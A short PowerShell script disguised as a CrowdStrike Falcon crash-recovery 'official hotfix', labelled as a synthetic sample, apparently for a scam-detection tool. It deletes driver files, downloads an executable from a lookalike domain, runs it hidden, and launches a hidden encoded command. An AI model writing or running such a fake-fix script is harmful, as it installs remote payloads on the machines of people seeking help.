# CrowdStrike Falcon BSOD recovery script (scamscan synthetic sample - harmless text, not malware)
# Removes the faulty channel file and applies the "official hotfix".
$csDir = Join-Path $env:WINDIR 'System32\drivers\CrowdStrike'
Get-ChildItem -Path $csDir -Filter 'C-00000291*.sys' | Remove-Item -Force
$url = 'https://crowdstrike-helpdesk.com/hotfix/FalconFix.exe'
$out = Join-Path $env:TEMP 'FalconFix.exe'
Invoke-WebRequest -Uri $url -OutFile $out -UseBasicParsing
Start-Process -FilePath $out -WindowStyle Hidden
powershell.exe -NoProfile -WindowStyle Hidden -enc U2NhbXNjYW4gc3ludGhldGljIHNhbXBsZTogbm90IGEgcmVhbCBjb21tYW5kLg==
